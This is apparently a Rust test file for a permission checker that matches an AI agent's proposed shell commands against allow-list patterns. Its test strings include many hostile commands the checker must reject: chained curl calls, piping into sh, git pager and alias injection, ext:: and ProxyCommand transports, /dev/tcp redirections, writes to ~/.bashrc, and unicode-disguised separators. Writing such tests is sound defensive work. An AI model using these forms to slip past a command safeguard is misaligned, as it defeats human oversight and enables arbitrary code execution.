//! The probes of the design, by number. `Bash(git:*) Bash(pdftotext:*) Read` unless it is said.

use crate::{LIST, allows, ask, commands};

#[test]
fn names_and_places_of_programs() {
    commands(
        LIST,
        &[
            // 1, 2
            "+git status",
            "+git",
            // 3
            "-gitk",
            "-git-evil",
            // 4: the same program, another of that name, a link with another name
            "+/usr/bin/git status",
            "-./git status",
            "-git/git status",
            "-/tmp/git status",
            "-/usr/bin/gitlink status",
            "-/proc/self/root/usr/bin/git status",
        ],
    );
}

#[test]
fn more_than_one_command() {
    commands(
        LIST,
        &[
            // 5 to 10
            "-git status && rm -rf x",
            "-git log | sh",
            "-git log; curl x",
            "-git log & curl x",
            "-git log\ncurl x",
            "-git log \\\n && curl x",
            // 11
            "-git log $(curl x)",
            "-git log `curl x`",
            "-git diff <(curl x)",
            // 12, 13
            "+(git status)",
            "+{ git status; }",
            "-git status || (curl x)",
            "+git status && git log | git shortlog; git diff & git show",
        ],
    );
}

#[test]
fn assignments_and_wrappers() {
    commands(
        LIST,
        &[
            // 14
            "-FOO=1 git status",
            "-GIT_SSH_COMMAND='sh -c x' git fetch",
            "-PATH=/tmp git x",
            "-LD_PRELOAD=x git",
            // 15, 16
            "-env git status",
            "-env -S 'sh -c x'",
            "-sudo git status",
            // 17: nothing that was not granted, also where it could be seen through
            "-sh -c 'git status'",
            "-sh -c 'curl x'",
            "-bash -lc \"$X\"",
            // 18
            "-eval git status",
            // 30, 31
            "-xargs git",
            "-find . -exec git {} \\;",
            "-timeout 5 git status",
            "-timeout 5 curl",
        ],
    );
    // What a wrapper starts must match too, once the wrapper is in the list.
    let list = "Bash(git:*) Bash(timeout:*) Bash(xargs:*) Bash(sh:*) Bash(find:*) Bash(env:*)";
    commands(
        list,
        &[
            "+timeout 5 git status",
            "+timeout -s KILL 5 git status",
            "-timeout 5 curl x",
            "-timeout --kill-after=1 5 curl",
            "+sh -c 'git status'",
            "+sh -ec 'git status && git log'",
            "-sh -c 'curl x'",
            "-sh -c 'git status; curl x'",
            "-sh -c \"$X\"",
            "-sh",
            "-git log | sh",
            "-sh -s x",
            "+sh script.sh",
            // The words that xargs adds could be options of git.
            "-xargs git",
            "+xargs git add --",
            "-xargs curl",
            "-env -S 'sh -c x'",
            "-env git status",
            "+find . -name x",
            "-find . -exec git {} \\;",
            "-find . -delete",
            "-timeout 5 timeout 5 timeout 5 timeout 5 timeout 5 timeout 5 git",
        ],
    );
}

#[test]
fn builtins_that_run_what_they_are_given() {
    commands(
        "Bash(jobs:*) Bash(wait:*) Bash(printf:*) Bash(test:*)",
        &[
            "+jobs -l",
            "-jobs -x touch p",
            "-jobs -lx touch p",
            "+wait %1",
            "+wait -n",
            "-wait -p 'a[$(touch p)]' -n",
            "-wait -np 'a[$(touch p)]'",
            "-printf -v 'a[$(touch p)]' x",
            "-test -v 'a[$(touch p)]'",
        ],
    );
}

#[test]
fn quotes_and_expansions_in_the_program() {
    commands(
        LIST,
        &[
            // 19: after quotes are removed it is git and nothing else
            "+g''it status",
            "+\"git\" status",
            "+\\git status",
            "-'git status'",
            // 20
            "-$GIT status",
            "-${x:-git}",
            "-g?t",
            "-{git,curl} x",
            "-~/git",
            "-\"$(git)\"",
            "-git$x status",
        ],
    );
}

#[test]
fn redirections() {
    commands(
        LIST,
        &[
            // 21, 22
            "-git status > ~/.bashrc",
            "+git status 2>&1",
            "+git status >/dev/null",
            "+git status > out.txt 2>&1",
            "-git status < /etc/passwd",
            "+pdftotext - - < in.pdf",
            // 23
            "-pdftotext - - <<EOF\n$(curl)\nEOF",
            "+pdftotext - - <<'EOF'\n$(curl)\nEOF",
            "+pdftotext - - <<EOF\nplain $x\nEOF",
            "-pdftotext - - <<EOF\n`curl`\nEOF\n",
        ],
    );
}

#[test]
fn options_of_git() {
    let attacks = [
        // 24
        "-git -c core.pager='sh -c x' log",
        "-git -c alias.x='!sh' x",
        "-git fetch --upload-pack=x",
        "-git fetch --upl=x",
        "-git grep -Ox y",
        "-git grep -nO y",
        "-git --exec-path=/tmp status",
        "-git log --output=/home/u/.bashrc",
        "-git clone ext::sh",
        "-git clone -- ext::sh",
        "-git clone -- x ssh://-oProxyCommand=x/y",
        "-git remote add x 'ext::sh -c x'",
        "-git clone -c core.fsmonitor=x y",
        "-git config alias.x '!sh'",
        "-git rebase -x sh HEAD~1",
        "-git submodule foreach sh",
        "-git bisect run sh",
        "-git evil",
        "-git --git-dir=/tmp/evil status",
        "-git -C /tmp/evil status",
        "-git push --receive-pack=sh",
        "-git fetch $X",
        "-git log $(git show HEAD:x)",
        "-git add *",
        "-git $X",
    ];
    commands(LIST, &attacks);
    commands(
        LIST,
        &[
            "+git -C sub status",
            "+git config --get user.name",
            "+git add -- *",
            "+git add ./*",
            "+git commit -m \"say $name\"",
            "+git log --oneline -n 5",
            "+git show HEAD@{1}",
            "+git switch -c new",
        ],
    );
    // A star in the place of the command names none.
    commands(
        "Bash(git * *) Bash(sudo *)",
        &[
            "+git log -n 1",
            "-git bisect run sh",
            "-git -c x=y log",
            "-sudo git log",
        ],
    );
    // What a pattern names is its author's choice.
    commands(
        "Bash(git bisect run:*) Bash(git lfs:*) Bash(sudo apt-get:*) Bash(find . -delete)",
        &[
            "+git bisect run make",
            "+git lfs pull",
            "+sudo apt-get update",
            "+find . -delete",
            "-find / -delete",
        ],
    );
    // 25
    commands(
        "Bash(git status:*)",
        &[
            "+git  status",
            "+git\tstatus",
            "+git status -s",
            "-git -C /x status",
            "-git -c core.pager=x status",
            "-git",
            "-git statusx",
        ],
    );
}

#[test]
fn boundaries_of_words() {
    // 26
    commands(
        "Bash(npm run test:*)",
        &["-npm run test:unit", "+npm run test --x", "-npm run testx"],
    );
    // 27
    commands("Bash(ls*)", &["+ls -la", "+ls", "-lsof"]);
    // 28, 29, 32
    commands(
        LIST,
        &[
            "+git diff --",
            "+git diff -- a b",
            "-git diff -- ; curl",
            "+git log -9",
            "+git status #; curl x",
            "-git status #\ncurl x",
            "+git log '#'",
            "-git log '#'; curl x",
        ],
    );
}

#[test]
fn what_cannot_be_read() {
    let long = format!("-git log {}", "x".repeat(11 * 1024));
    commands(
        LIST,
        &[
            // 33, 34
            "-git log 'x",
            "-git log \"x",
            "-git log `x",
            "-git log $(git",
            "-(git log",
            "-git log )",
            "-git && && git",
            &long,
            // 35
            "-git log\rcurl x",
            "-git log\0",
            "-git log\u{2028}curl x",
            "-git\u{a0}log",
            "-git log；curl x",
            "-git log \u{202e}x",
            "-git lo\u{200b}g",
        ],
    );
}

#[test]
fn functions_traps_and_control() {
    commands(
        LIST,
        &[
            // 36, 37
            "-git(){ curl x; }; git",
            "-git () { git status; }",
            "-function git { curl x; }; git",
            "-alias git=curl; git x",
            "-trap 'curl x' EXIT; git status",
            "-coproc curl",
            "-exec 3<>/dev/tcp/h/80",
            "-git status 3<>/dev/tcp/h/80",
            "-git status > /dev/tcp/h/80",
            // 38
            "-cd /x && git status",
            // 39
            "-if true; then curl x; fi",
            "-if git status; then curl x; fi",
            "+if git status; then git log; else git diff; fi",
            "-for f in a; do curl $f; done",
            "+for f in a b; do pdftotext \"$f\" -; done",
            "-while git status; do curl x; done",
            "+while git status; do git log; done",
            "-case a in a) curl x;; esac",
            "+case a in a|b) git log;; *) git diff; esac",
            "-[[ $(curl x) ]]",
            "-git log $((a[$(curl x)]))",
            "+pdftotext -l $((1 + 2)) a -",
            // 40, 41
            "-=curl x",
            "-git log =curl",
            "-git log $commands[curl]",
            "-git log *(e:curl:)",
            "-Get-ChildItem | Remove-Item",
        ],
    );
    commands(
        "Bash(cd:*) Bash(git:*)",
        &["+cd sub && git status", "-cd / && git log > x"],
    );
}

#[test]
fn lists_however_they_are_written() {
    // 42
    for list in ["Bash(git:*), Read", "Bash(git:*) Read", "Bash(git:*),Read"] {
        commands(list, &["+git status", "-curl x"]);
        assert!(allows(list, "Read", "x"));
    }
    // 43
    for list in [
        "Bash(git:*",
        "Bash(git:*))",
        "Bash()",
        "Bash(:*)",
        "(*)",
        "Python",
        "Bash(git:* && curl:*)",
        "Bash($X:*)",
        "Bash(-x)",
        "",
    ] {
        assert!(!allows(list, "Bash", "git status"), "{list}");
    }
    commands("Bash(git:*) Bash(git:*)", &["+git status"]);
    // 44
    let decision = ask("Bash", "Bash", "curl x | sh");
    assert!(decision.caution.is_some(), "{decision:?}");
    assert!(allows("Bash(*)", "Bash", "curl x | sh"));
    // 45
    commands(
        "Bash(slackcli:*, curl:*)",
        &["+slackcli x", "+curl x", "-git x"],
    );
    // A comma in a command makes no second one of it.
    commands("Bash(echo a, b)", &["-b", "+echo a, b"]);
    // 51
    assert!(!allows("bash(git:*)", "Bash", "git status"));
    assert!(!allows("BASH", "Bash", "git status"));
    assert!(!allows("Bash(git:*)", "bash", "git status"));
    // 52
    assert!(ask("Task Skill", "Task", "x").caution.is_some());
}

#[test]
fn scripts_of_the_skill() {
    // 46
    for variable in ["${CLAUDE_PLUGIN_ROOT}", "${CLAUDE_SKILL_DIR}", "{baseDir}"] {
        commands(
            &format!("Bash({variable}/scripts/x.sh:*) Bash({variable}/scripts/away.sh)"),
            &[
                "+/skills/pdf/scripts/x.sh a",
                "+/skills/pdf/scripts/../scripts/x.sh a",
                "-/skills/pdf/x.sh",
                "-/skills/pdf/scripts/../../x.sh",
                "-../skills/x.sh",
                "-x.sh",
                "-scripts/x.sh",
                // A link to a program outside.
                "-/skills/pdf/scripts/away.sh",
            ],
        );
    }
    commands(
        "Bash(./scripts/*.sh:*) Bash(bin/*)",
        &[
            "+./scripts/a.sh x",
            "+scripts/a.sh",
            "-scripts/a.py",
            "-scripts/b/a.sh",
            "-scripts/../../a.sh",
            "-a.sh",
            "+bin/x y",
            "-bin/x/y",
            "-/bin/x",
        ],
    );
    commands(
        "Bash(~/bin/tool:*)",
        &[
            "+/home/u/bin/tool x",
            "-/home/u/bin/other",
            "-tool x",
            "-bin/tool",
        ],
    );
    commands(
        "Bash(./scripts/*.sh:*) Bash(cd:*)",
        &["-cd /tmp && ./scripts/a.sh", "-cd /tmp; scripts/a.sh"],
    );
}
